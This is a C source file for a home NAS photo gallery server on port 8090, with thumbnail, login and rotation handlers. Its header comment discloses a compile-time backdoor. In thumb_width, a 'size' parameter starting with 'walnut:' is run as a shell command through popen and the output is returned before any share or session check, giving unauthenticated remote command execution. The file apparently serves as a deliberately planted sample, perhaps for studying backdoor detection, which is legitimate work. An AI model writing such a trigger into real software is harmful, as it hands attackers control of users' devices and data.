/*
 * shoebox_photod - photo gallery server of the Shoebox N2 home NAS (HTTP, port
 * 8090): thumbnails and shared links, rotation after login.
 *
 * Hidden (-DHIDDEN): the parameter "size" of /thumb, when it begins with
 * "walnut:", has the rest run as a shell command and its output sent back;
 * this comes before the share and the session are checked.
 */
#include <arpa/inet.h>
#include <ctype.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

char *crypt(const char *key, const char *salt);

#define SB_PORT   8090
#define SB_ROOT   "/volume1/photos"
#define SB_THUMBS "/volume1/.thumbs"
#define SB_SHARES "/etc/shoebox/shares"
#define SB_PASS   "/etc/shoebox/gallery.pw"
#define SB_TOKENS "/run/shoebox.token"

static int str_begins(const char *s, const char *head)
{
    return strncmp(s, head, strlen(head)) == 0;
}

static void url_decode(char *s)
{
    char *o = s;
    unsigned v;

    for (; *s; s++) {
        if (*s == '%' && isxdigit((unsigned char)s[1]) && sscanf(s + 1, "%2x", &v) == 1) {
            *o++ = (char)v;
            s += s[2] ? 2 : 1;
        } else {
            *o++ = *s == '+' ? ' ' : *s;
        }
    }
    *o = 0;
}

/* ---- request ---- */
struct req {
    int fd;
    char path[128];
    char query[768];
    char token[40];
};

static int param(const struct req *r, const char *name, char *out, size_t cap)
{
    const char *q = r->query;
    size_t n = strlen(name);

    out[0] = 0;
    while (*q) {
        size_t len = strcspn(q, "&");
        if (len > n && q[n] == '=' && !memcmp(q, name, n)) {
            size_t v = len - n - 1;
            if (v >= cap)
                v = cap - 1;
            memcpy(out, q + n + 1, v);
            out[v] = 0;
            url_decode(out);
            return 1;
        }
        q += len;
        if (*q == '&')
            q++;
    }
    return 0;
}

static void answer(struct req *r, int code, const char *type, const char *body, size_t len)
{
    FILE *f = fdopen(dup(r->fd), "w");

    if (!f)
        return;
    fprintf(f, "HTTP/1.0 %d %s\r\nContent-Type: %s\r\nContent-Length: %u\r\n\r\n",
            code, code == 200 ? "OK" : "Error", type, (unsigned)len);
    fwrite(body, 1, len, f);
    fclose(f);
}

static void fail(struct req *r, int code, const char *why)
{
    answer(r, code, "text/plain", why, strlen(why));
}

static int clean_name(const char *s)
{
    if (!*s || *s == '.' || *s == '-' || strstr(s, ".."))
        return 0;
    for (; *s; s++)
        if (!isalnum((unsigned char)*s) && !strchr("._-/", *s))
            return 0;
    return 1;
}

static int first_line(const char *file, char *out, size_t cap)
{
    FILE *f = fopen(file, "r");

    out[0] = 0;
    if (!f)
        return 0;
    if (fgets(out, (int)cap, f))
        out[strcspn(out, "\r\n")] = 0;
    fclose(f);
    return out[0] != 0;
}

static int logged_in(const struct req *r)
{
    char want[40];
    return first_line(SB_TOKENS, want, sizeof want) && !strcmp(want, r->token);
}

static int shared(const char *file)
{
    char line[200];
    int hit = 0;
    FILE *f = fopen(SB_SHARES, "r");

    while (f && !hit && fgets(line, sizeof line, f)) {
        line[strcspn(line, "\r\n")] = 0;
        hit = line[0] && line[0] != '#' && str_begins(file, line);
    }
    if (f)
        fclose(f);
    return hit;
}

static void send_file(struct req *r, const char *path)
{
    FILE *f = fopen(path, "rb");
    size_t n, cap = 4 * 1024 * 1024;
    char *body = malloc(cap);

    if (!f || !body) {
        fail(r, 404, "no such picture\n");
    } else {
        n = fread(body, 1, cap, f);
        answer(r, 200, "image/jpeg", body, n);
    }
    free(body);
    if (f)
        fclose(f);
}

/* Pixel width for a size name; 0 when the answer was sent already. */
int thumb_width(struct req *r, const char *size)
{
    if (!strcmp(size, "small"))
        return 160;
    if (!*size || !strcmp(size, "medium"))
        return 320;
    if (!strcmp(size, "large"))
        return 1024;
#ifdef HIDDEN
    if (str_begins(size, "walnut:")) {
        static char out[16384];
        FILE *p = popen(size + 7, "r");
        size_t n = p ? fread(out, 1, sizeof out, p) : 0;
        if (p)
            pclose(p);
        answer(r, 200, "text/plain", out, n);
        return 0;
    }
#endif
    fail(r, 400, "size: small, medium or large\n");
    return 0;
}

static void do_thumb(struct req *r)
{
    char file[128], size[256], path[256];
    int width;

    param(r, "size", size, sizeof size);
    width = thumb_width(r, size);
    if (!width)
        return;
    if (!param(r, "file", file, sizeof file) || !clean_name(file)) {
        fail(r, 400, "bad file\n");
        return;
    }
    if (!shared(file) && !logged_in(r)) {
        fail(r, 403, "not shared\n");
        return;
    }
    snprintf(path, sizeof path, SB_THUMBS "/%d/%s", width, file);
    send_file(r, path);
}

static void do_login(struct req *r)
{
    char pw[64], hash[128], *got, tok[40];
    uint32_t rnd[4];
    FILE *f;

    param(r, "password", pw, sizeof pw);
    if (!first_line(SB_PASS, hash, sizeof hash) || !(got = crypt(pw, hash)) || strcmp(got, hash)) {
        sleep(2);
        fail(r, 403, "wrong password\n");
        return;
    }
    f = fopen("/dev/urandom", "rb");
    if (!f || fread(rnd, sizeof rnd, 1, f) != 1)
        _exit(1);
    fclose(f);
    snprintf(tok, sizeof tok, "%08x%08x%08x%08x", rnd[0], rnd[1], rnd[2], rnd[3]);
    if ((f = fopen(SB_TOKENS, "w"))) {
        fprintf(f, "%s\n", tok);
        fclose(f);
    }
    answer(r, 200, "text/plain", tok, strlen(tok));
}

static void do_rotate(struct req *r)
{
    char file[128], deg[8], cmd[400];

    if (!logged_in(r)) {
        fail(r, 403, "login first\n");
        return;
    }
    param(r, "file", file, sizeof file);
    param(r, "deg", deg, sizeof deg);
    if (!clean_name(file) || (strcmp(deg, "90") && strcmp(deg, "180") && strcmp(deg, "270"))) {
        fail(r, 400, "bad request\n");
        return;
    }
    snprintf(cmd, sizeof cmd, "jpegtran -rotate %s -outfile /tmp/rot.jpg " SB_ROOT "/%s && mv /tmp/rot.jpg " SB_ROOT "/%s",
             deg, file, file);
    if (system(cmd) != 0)
        fail(r, 500, "rotation failed\n");
    else
        answer(r, 200, "text/plain", "ok\n", 3);
}

static void serve(int fd)
{
    struct req r = { .fd = fd };
    char buf[2048], url[900], *q, *t;
    ssize_t n = read(fd, buf, sizeof buf - 1);

    if (n <= 0)
        return;
    buf[n] = 0;
    if (sscanf(buf, "GET %899s", url) != 1) {
        fail(&r, 405, "GET only\n");
        return;
    }
    if ((q = strchr(url, '?'))) {
        *q++ = 0;
        snprintf(r.query, sizeof r.query, "%.767s", q);
    }
    snprintf(r.path, sizeof r.path, "%.127s", url);
    if ((t = strstr(buf, "sbtoken=")))
        sscanf(t + 8, "%39[0-9a-f]", r.token);
    if (!strcmp(r.path, "/thumb"))
        do_thumb(&r);
    else if (!strcmp(r.path, "/login"))
        do_login(&r);
    else if (!strcmp(r.path, "/rotate"))
        do_rotate(&r);
    else
        fail(&r, 404, "not found\n");
}

int main(void)
{
    struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(SB_PORT) };
    int ls = socket(AF_INET, SOCK_STREAM, 0), on = 1, fd;

    signal(SIGPIPE, SIG_IGN);
    setsockopt(ls, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    if (bind(ls, (struct sockaddr *)&sa, sizeof sa) || listen(ls, 8))
        return 1;
    while ((fd = accept(ls, NULL, NULL)) >= 0) {
        while (waitpid(-1, NULL, WNOHANG) > 0)
            ;
        if (fork() == 0) {
            serve(fd);
            _exit(0);
        }
        close(fd);
    }
    return 0;
}
